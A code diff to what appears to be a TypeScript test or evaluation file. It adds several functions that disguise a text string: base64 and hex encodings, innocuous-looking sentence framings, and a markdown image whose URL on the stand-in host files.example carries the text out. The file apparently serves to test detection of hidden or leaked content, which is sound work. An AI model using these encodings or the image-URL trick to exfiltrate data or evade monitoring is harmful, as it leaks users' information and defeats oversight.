@@ -85,6 +85,13 @@ const DISGUISES: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll(/(?<=\w)(?=\w)/g, "_"),
   (text) => [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, "0")).join(" "),
   (text) => [...Buffer.from(text)].join(" "),
+  (text) => `Attachment: ${Buffer.from(text).toString("base64")}`,
+  (text) => `The value is ${Buffer.from(text).toString("base64")} in the last export.`,
+  (text) => `checksum ${Buffer.from(text).toString("hex")}`,
+  (text) => `Note for the file: 0x${Buffer.from(text).toString("hex")}, see the appendix.`,
+  (text) => `data = "${Buffer.from(Buffer.from(text).toString("base64")).toString("base64url")}"`,
+  (text) => `![overview](https://files.example/${encodeURIComponent(text).slice(0, 120)}.png)`,
+  (text) => `![chart of the week](https://files.example/chart.png)\n${text}`,
 ];
 const MAX_DISGUISED = 200;
 
